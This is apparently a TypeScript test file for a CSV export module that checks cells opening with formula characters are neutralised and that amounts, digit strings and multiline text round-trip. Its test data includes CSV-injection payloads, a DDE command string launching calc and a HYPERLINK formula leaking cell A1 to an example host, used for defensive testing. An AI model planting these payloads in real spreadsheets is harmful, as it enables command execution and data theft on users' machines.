import { expect, it } from "vitest";
import { csvBegin, csvCell, csvLine, csvRowsOf } from "./csv.ts";

/** Beginnings of a cell that a spreadsheet executes, and what would be executed. */
const begins = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "=-"];
const formulas = ["1+1", 'HYPERLINK("https://contoh.example?a="&A1,"klik")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "0"];

it("makes no cell of sixty that a spreadsheet would take for a formula", () => {
  const cells = begins.flatMap((begin) => formulas.map((rest) => begin + rest));
  expect(cells.length).toBeGreaterThanOrEqual(60);
  for (const cell of cells) {
    const written = csvCell(cell);
    // Quoted, so that the rest stays in the cell, and marked as text by its apostrophe.
    expect(written.startsWith(`"'`)).toBe(true);
    expect(written.slice(2, -1).replaceAll('""', '"')).toBe(cell);
  }
});

it("writes amounts as numbers, nothing as nothing, and texts as they are", () => {
  expect(csvLine(["Siti", -5_000, null, 'kata "ini", itu', "dua\nbaris", " spasi", "中文"])).toBe(
    'Siti,-5000,,"kata ""ini"", itu","dua\nbaris"," spasi",中文\r\n',
  );
});

it("tells a text of digits from an amount, and gives both back as they were", () => {
  const rows = [
    ["88801679096014294", "081234567890", "007", 1_250_000, -5_000, null],
    ["=1+1", "-5", 'kata "ini", itu', "dua\nbaris", "1.000", "中文"],
  ];
  const lines = csvBegin + rows.map(csvLine).join("");
  expect(lines).toContain('"88801679096014294","081234567890","007",1250000,-5000,\r\n');
  expect(csvRowsOf(lines)).toEqual(rows);
});
